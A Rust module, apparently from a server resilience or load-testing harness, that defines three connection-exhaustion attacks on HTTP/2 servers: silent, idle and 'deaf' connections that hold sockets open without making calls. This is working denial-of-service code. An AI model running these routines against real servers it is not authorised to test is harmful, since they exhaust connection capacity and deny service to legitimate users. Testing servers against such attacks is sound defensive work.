//! Connections that carry no call.

use std::future::pending;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::{
    attack::{Aim, Attack},
    attacker::WINDOW_BYTES,
    frames::HELLO,
};

/// Opens connections, sends nothing, and waits until the server closes them.
pub fn silent_connections(aim: &Aim, connections: usize) -> Attack {
    Attack::start(aim, connections, |attacker| async move {
        let mut stream = attacker.connect().await?;
        let mut ignored = [0; 1024];
        while stream.read(&mut ignored).await? > 0 {}
        Ok(())
    })
}

/// Opens HTTP/2 connections that answer pings and make no calls.
pub fn idle_connections(aim: &Aim, connections: usize) -> Attack {
    Attack::start(aim, connections, |attacker| async move {
        let (_client, connection) = attacker.handshake(WINDOW_BYTES).await?;
        Ok(connection.await?)
    })
}

/// Opens HTTP/2 connections that read nothing and answer nothing, not even GOAWAY.
pub fn deaf_connections(aim: &Aim, connections: usize) -> Attack {
    Attack::start(aim, connections, |attacker| async move {
        let mut stream = attacker.connect().await?;
        stream.write_all(HELLO).await?;
        pending().await
    })
}
